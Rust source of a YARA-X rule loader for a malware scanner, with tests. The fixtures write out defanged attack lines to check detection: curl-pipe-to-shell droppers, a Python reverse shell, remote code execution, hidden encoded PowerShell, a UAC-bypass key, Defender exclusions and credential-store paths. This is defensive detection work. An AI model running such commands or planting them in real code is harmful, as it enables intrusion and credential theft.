//! YARA-X rules: the shipped pack (compiled into the binary) plus operator folders.
//!
//! Every rule carries `meta: id, severity, description, false_positives`, and optionally
//! `needs = "network"`: such a rule (credential stores, request catchers) counts in full only
//! when the same file can also send data out; otherwise it is reported at low severity.

use std::cell::RefCell;
use std::path::{Path, PathBuf};

use crate::Context;
use crate::report::{Finding, Severity};

const SHIPPED: &[(&str, &str)] = &[
    ("exfiltration.yar", include_str!("../rules/exfiltration.yar")),
    ("credentials.yar", include_str!("../rules/credentials.yar")),
    ("windows.yar", include_str!("../rules/windows.yar")),
    ("obfuscation.yar", include_str!("../rules/obfuscation.yar")),
    ("droppers.yar", include_str!("../rules/droppers.yar")),
];

#[derive(Debug, thiserror::Error)]
pub enum RuleError {
    #[error("cannot read rule folder {0}: {1}")]
    Io(PathBuf, #[source] std::io::Error),
    #[error("rule file {0} does not compile:\n{1}")]
    Compile(String, String),
    #[error("rule {rule} in {file}: {problem}")]
    Meta { file: String, rule: String, problem: String },
}

/// Compiled rules, leaked once so that every thread can keep its own `yara_x::Scanner` over them
/// (a scanner is expensive to create and cheap to reuse).
pub struct RuleSet {
    rules: &'static yara_x::Rules,
    count: usize,
}

pub struct RuleHit {
    id: String,
    severity: Severity,
    description: String,
    needs_network: bool,
    offset: usize,
}

fn rule_files(dir: &Path) -> Result<Vec<(String, String)>, RuleError> {
    let mut out = Vec::new();
    let entries = std::fs::read_dir(dir).map_err(|e| RuleError::Io(dir.to_path_buf(), e))?;
    let mut paths: Vec<PathBuf> = entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
    paths.sort();
    for p in paths {
        let ext = p.extension().and_then(|e| e.to_str()).unwrap_or("");
        if p.is_file() && (ext == "yar" || ext == "yara") {
            let text = std::fs::read_to_string(&p).map_err(|e| RuleError::Io(p.clone(), e))?;
            out.push((p.display().to_string(), text));
        }
    }
    Ok(out)
}

fn compile(sources: &[(String, String)]) -> Result<(yara_x::Rules, usize), RuleError> {
    let mut compiler = yara_x::Compiler::new();
    for (i, (name, text)) in sources.iter().enumerate() {
        // One namespace per file, so operator rules may reuse identifiers of the shipped pack.
        compiler.new_namespace(&format!("f{i}"));
        compiler
            .add_source(yara_x::SourceCode::from(text.as_str()).with_origin(name.as_str()))
            .map_err(|e| RuleError::Compile(name.clone(), e.to_string()))?;
    }
    let rules = compiler.build();
    let mut count = 0;
    for rule in rules.iter() {
        count += 1;
        let meta: Vec<(&str, yara_x::MetaValue)> = rule.metadata().collect();
        let get = |k: &str| meta.iter().find(|(key, _)| *key == k).map(|(_, v)| v);
        let problem = match (get("id"), get("severity"), get("description")) {
            (Some(yara_x::MetaValue::String(_)), Some(yara_x::MetaValue::String(s)), Some(yara_x::MetaValue::String(_)))
                if Severity::parse(s).is_some() =>
            {
                None
            }
            (None, _, _) | (_, _, None) => Some("needs string metadata 'id' and 'description'".to_string()),
            _ => Some("'severity' must be one of info, low, medium, high, critical".to_string()),
        };
        if let Some(problem) = problem {
            return Err(RuleError::Meta { file: rule.namespace().to_string(), rule: rule.identifier().to_string(), problem });
        }
    }
    Ok((rules, count))
}

/// Compiles the rule files of `dir` alone, for `palisade rules check`: the number of rules, or
/// the first error with its location.
pub fn check_rules_dir(dir: &Path) -> Result<usize, RuleError> {
    let files = rule_files(dir)?;
    compile(&files).map(|(_, n)| n)
}

impl RuleSet {
    pub fn compile(extra_dirs: &[PathBuf]) -> Result<Self, RuleError> {
        let mut sources: Vec<(String, String)> = SHIPPED.iter().map(|(n, t)| (format!("palisade:{n}"), t.to_string())).collect();
        for dir in extra_dirs {
            sources.extend(rule_files(dir)?);
        }
        let (rules, count) = compile(&sources)?;
        Ok(Self { rules: Box::leak(Box::new(rules)), count })
    }

    pub fn count(&self) -> usize {
        self.count
    }

    pub fn scan(&self, data: &[u8]) -> Vec<RuleHit> {
        thread_local! {
            static SCANNER: RefCell<Option<(usize, yara_x::Scanner<'static>)>> = const { RefCell::new(None) };
        }
        let key = self.rules as *const yara_x::Rules as usize;
        SCANNER.with(|cell| {
            let mut slot = cell.borrow_mut();
            if slot.as_ref().is_none_or(|(k, _)| *k != key) {
                *slot = Some((key, yara_x::Scanner::new(self.rules)));
            }
            let Some((_, scanner)) = slot.as_mut() else { return Vec::new() };
            let Ok(results) = scanner.scan(data) else { return Vec::new() };
            results
                .matching_rules()
                .map(|rule| {
                    let meta: Vec<(&str, yara_x::MetaValue)> = rule.metadata().collect();
                    let text = |k: &str| match meta.iter().find(|(key, _)| *key == k) {
                        Some((_, yara_x::MetaValue::String(s))) => s.to_string(),
                        _ => String::new(),
                    };
                    // Patterns named `$ctx_*` only qualify the others (a URL inside a command):
                    // the finding points at the first match of the rest.
                    let offset = rule
                        .patterns()
                        .filter(|p| !p.identifier().starts_with("$ctx_"))
                        .flat_map(|p| p.matches().map(|m| m.range().start))
                        .min()
                        .unwrap_or(0);
                    RuleHit {
                        id: text("id"),
                        severity: Severity::parse(&text("severity")).unwrap_or(Severity::Medium),
                        description: text("description"),
                        needs_network: text("needs") == "network",
                        offset,
                    }
                })
                .collect()
        })
    }
}

impl RuleHit {
    pub fn needs_network(&self) -> bool {
        self.needs_network
    }

    pub fn into_finding(self, path: &str, data: &[u8], ctx: Context, file_has_network: bool) -> Finding {
        let (line, excerpt) = line_at(data, self.offset);
        let (severity, message) = if self.needs_network && !file_has_network {
            (Severity::Low, format!("{} (no network use in this file, so weighed low)", self.description))
        } else {
            (self.severity, self.description)
        };
        Finding::new(&self.id, severity, ctx, path, Some(line), &excerpt, &message)
    }
}

/// The 1-based line number and text of the line holding byte `offset`.
pub fn line_at(data: &[u8], offset: usize) -> (u32, String) {
    let offset = offset.min(data.len());
    let line = memchr::memchr_iter(b'\n', &data[..offset]).count() as u32 + 1;
    let start = memchr::memrchr(b'\n', &data[..offset]).map_or(0, |p| p + 1);
    let end = memchr::memchr(b'\n', &data[offset..]).map_or(data.len(), |p| offset + p);
    // Show the neighbourhood of the match on very long lines.
    let from = start.max(offset.saturating_sub(80));
    let to = end.min(from + 200);
    (line, String::from_utf8_lossy(&data[from..to]).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shipped_rules_compile_with_metadata() {
        let set = RuleSet::compile(&[]).unwrap();
        assert!(set.count() >= 15, "{}", set.count());
    }

    #[test]
    fn operator_rules_are_checked() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("ok.yar"),
            "rule r { meta: id = \"x\" severity = \"low\" description = \"d\" strings: $a = \"zz\" condition: $a }",
        )
        .unwrap();
        assert_eq!(check_rules_dir(dir.path()).unwrap(), 1);
        std::fs::write(dir.path().join("bad.yar"), "rule broken { condition: $nope }").unwrap();
        let err = check_rules_dir(dir.path()).unwrap_err().to_string();
        assert!(err.contains("bad.yar"), "{err}");
        std::fs::remove_file(dir.path().join("bad.yar")).unwrap();
        std::fs::write(dir.path().join("meta.yar"), "rule nometa { condition: true }").unwrap();
        assert!(matches!(check_rules_dir(dir.path()), Err(RuleError::Meta { .. })));
    }

    /// The shell pipe rule needs a URL inside the command, and points at the command, not at a
    /// URL elsewhere in the file.
    #[test]
    fn shell_pipe_needs_a_url_in_the_command() {
        let set = RuleSet::compile(&[]).unwrap();
        let hit = |text: &str| set.scan(text.as_bytes()).into_iter().find(|h| h.id == "dropper-shell-pipe");
        let text = "HOME = 'https://example.invalid/'\n\nos.system('wget https://example.invalid/x -O /tmp/x && chmod +x /tmp/x')\n";
        let found = hit(text).expect("wget && chmod with a URL");
        assert_eq!(line_at(text.as_bytes(), found.offset).0, 3);
        assert!(hit("os.system('CURL -fsSL http://example.invalid/i.sh | sudo bash')").is_some());
        // No URL in the command, or a URL outside it.
        assert!(hit("os.system('curl -s $URL | sh')").is_none());
        assert!(hit("# see https://curl.se\nos.system('curl -s $URL | sh')").is_none());
        assert!(hit("u = 'https://example.invalid/'; os.system('wget $U && chmod +x x')").is_none());
    }

    #[test]
    fn lines() {
        assert_eq!(line_at(b"a\nbcd\ne", 3), (2, "bcd".to_string()));
        assert_eq!(line_at(b"x", 0), (1, "x".to_string()));
    }
}

/// One positive and one negative synthetic fixture per shipped rule. The positives are defanged
/// (reserved domains, documentation addresses) but keep the shape the rule describes.
#[cfg(test)]
mod fixtures {
    use super::*;

    const CASES: &[(&str, &str, &str)] = &[
        (
            "exfil-discord-webhook",
            "HOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGH12'",
            "BASE = 'https://discord.com/api/webhooks/'  # webhook client: the id and token come from the user",
        ),
        (
            "exfil-telegram-bot",
            "u = 'https://api.telegram.org/bot123456789:AAabcdefghijklmnopqrstuvwxyz012345678/sendMessage'",
            "u = 'https://api.telegram.org/bot' + token",
        ),
        (
            "exfil-request-catcher",
            "u = 'https://abcdefghij123.oastify.com/x'",
            "see https://portswigger.net/burp/documentation/collaborator",
        ),
        (
            "exfil-tunnel-or-paste",
            "u = 'https://abc-123.ngrok-free.app/p'; v = 'https://pastebin.com/raw/XyZ'",
            "u = 'https://ngrok.com/docs'",
        ),
        (
            "exfil-raw-ip-url",
            "u = 'http://5.6.7.8:8080/a'",
            "u = 'http://127.0.0.1:8080/a'; v = 'http://192.168.1.1/'; w = 'http://203.0.113.50/x'; d = 'http://198.51.100.7:80/'; e = 'http://100.64.1.1/'",
        ),
        (
            "cred-browser-store",
            "p = LOCAL + r'\\Google\\Chrome\\User Data\\Default\\Login Data'; k = 'Local State'",
            "# Login Data is a phrase in this form library",
        ),
        ("cred-discord-token", "p = ROAMING + r'\\discord\\Local Storage\\leveldb'", "p = 'discord bot docs'"),
        ("cred-crypto-wallet", "p = APPDATA + r'\\Exodus\\exodus.wallet'", "# exodus is a book of the bible"),
        ("cred-dev-secrets", "a = '~/.ssh/id_rsa'; b = '~/.aws/credentials'", "a = '~/.ssh/known_hosts'"),
        (
            "win-powershell-encoded",
            "os.system('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')",
            "subprocess.run(['powershell', '-Command', 'Get-ChildItem'])",
        ),
        (
            "win-powershell-encoded",
            "code = \"$c = [Convert]::FromBase64String($b); Invoke-Expression $cmd\"\nPopen(['powershell.exe', '-File', p])",
            "code = \"$c = [Convert]::FromBase64String($b); Set-Content -Path x -Value $c\"\nPopen(['powershell.exe', '-File', p])",
        ),
        (
            "win-uac-bypass",
            "k = r'Software\\Classes\\ms-settings\\shell\\open\\command'; run('fodhelper.exe')",
            "k = r'Software\\Classes\\txtfile\\shell\\open\\command'",
        ),
        ("win-defender-evasion", "cmd = 'powershell Add-MpPreference -ExclusionPath C:\\\\'", "cmd = 'powershell Get-MpPreference'"),
        (
            "win-persistence",
            "k = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'",
            "k = r'Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall'",
        ),
        ("obf-pyarmor", "from pytransform import pyarmor_runtime\npyarmor_runtime()", "# we do not use pyarmor"),
        ("obf-known-obfuscator", "# Obfuscated with BlankOBF\n____ = eval('__import__')", "# Obfuscation is out of scope"),
        ("obf-exec-import-chain", "__import__('builtins').exec(payload)", "import builtins\nprint(builtins.len([]))"),
        (
            "dropper-shell-pipe",
            "os.system('curl -s https://example.invalid/i.sh | sh')",
            "os.system('curl -s https://example.invalid/data.json -o data.json')",
        ),
        (
            "dropper-embedded-executable",
            "exe = base64.b64decode('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAA')",
            "png = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')",
        ),
        ("dropper-reverse-shell", "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')", "os.dup2(fd.fileno(), 1)"),
        (
            "dropper-exec-remote-code",
            "exec(urlopen('https://example.invalid/x').read())",
            "data = urlopen('https://example.invalid/x').read()",
        ),
    ];

    #[test]
    fn every_shipped_rule_has_a_positive_and_a_negative() {
        let set = RuleSet::compile(&[]).unwrap();
        let ids = |text: &str| set.scan(text.as_bytes()).into_iter().map(|h| h.id).collect::<Vec<_>>();
        for (id, positive, negative) in CASES {
            assert!(ids(positive).contains(&id.to_string()), "{id} misses its positive fixture: {positive}");
            assert!(!ids(negative).contains(&id.to_string()), "{id} fires on its negative fixture: {negative}");
        }
        // And no shipped rule lacks fixtures.
        let covered: Vec<&str> = CASES.iter().map(|c| c.0).collect();
        for (_, text) in SHIPPED {
            for line in text.lines() {
                if let Some(id) = line.trim().strip_prefix("id = \"").and_then(|r| r.strip_suffix('"')) {
                    assert!(covered.contains(&id), "rule {id} has no fixtures");
                }
            }
        }
    }
}
